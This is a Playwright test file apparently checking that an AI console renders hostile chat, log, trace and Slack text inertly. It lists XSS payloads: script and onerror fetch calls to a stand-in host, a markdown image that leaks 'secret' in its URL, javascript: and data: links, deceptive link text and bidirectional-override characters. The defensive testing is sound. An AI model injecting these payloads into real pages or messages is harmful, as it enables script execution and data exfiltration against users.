import { expect, type Page } from 'playwright/test';
import { aiConsolePage } from './aiConsolePage';
import { test } from './consoleTest';
import { signInAs } from './loginPage';

const EVIL = 'evil.invalid';
const HOSTILE = [
  `<script>fetch('https://${EVIL}/a')</script>`,
  `<img src=x onerror="fetch('https://${EVIL}/b')">`,
  `<svg onload="alert(1)"></svg><iframe src="https://${EVIL}/c"></iframe>`,
  `![exfiltrated](https://${EVIL}/d.png?q=secret)`,
  `[the bank](javascript:alert(2)) [data](data:text/html,<script>alert(3)</script>)`,
  `[https://bank.example](https://${EVIL}/e)`,
  'pay \u202etxt.exe to\u200bday',
].join('\n\n');

/** What the page tried to load from elsewhere, and every dialog it opened. */
const watch = (page: Page) => {
  const misdeeds: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes(EVIL)) misdeeds.push(request.url());
  });
  page.on('dialog', (dialog) => {
    misdeeds.push(dialog.message());
    void dialog.dismiss();
  });
  return misdeeds;
};

const expectHarmless = async (page: Page) => {
  const found = await page.evaluate(() =>
    [...document.querySelectorAll('main iframe, main script, main img, main svg[onload], main a')].flatMap(
      (element) => {
        const target = element.getAttribute('href') ?? element.getAttribute('src') ?? '';
        const isLink = element.tagName === 'A' && !/^(javascript|data):/i.test(target);
        // A picture that an agent gave, kept here.
        const isKept = element.tagName === 'IMG' && /^\/api\/attachments\/file_[0-9a-f]+$/.test(target);
        return isLink || isKept ? [] : [element.outerHTML];
      },
    ),
  );
  expect(found).toEqual([]);
};

test('hostile text is only text in the chat, its title, the traces, the logs, the run and the team chat', async ({
  page,
}) => {
  test.slow();
  const misdeeds = watch(page);
  const chat = aiConsolePage(page);
  await signInAs(page, 'operator', '/ai-console');
  await chat.openNew();
  await chat.composer.fill(HOSTILE);
  await chat.composer.press('Enter');
  await expect(chat.messages.getByText('the bank').first()).toBeVisible();
  await expect(chat.messages.getByText(/run_/).first()).toBeVisible();
  await expectHarmless(page);
  // A link says where it really leads.
  await expect(chat.messages.getByText(EVIL).first()).toBeVisible();

  const conversation = new URL(page.url()).searchParams.get('c') ?? '';
  const answer = await page.request.post('/mcp/api/call', {
    data: { server: 'slack', method: 'send_message', params: { channel: '#marketing', text: HOSTILE } },
    headers: { 'idempotency-key': `hostile-${conversation}`, origin: new URL(page.url()).origin },
  });
  expect(answer.ok()).toBe(true);
  const run = await page.locator('a[href^="/runs/"]').first().getAttribute('href');
  for (const path of [
    `/ai-console?c=${conversation}&view=trace`,
    `/ai-console?c=${conversation}&view=team-chat`,
    run ?? '/',
    '/logs',
    '/cockpit',
  ]) {
    await page.goto(path);
    await expect(page.getByRole('main')).toBeVisible();
    await page.waitForLoadState('networkidle');
    await expectHarmless(page);
  }
  expect(misdeeds).toEqual([]);
});
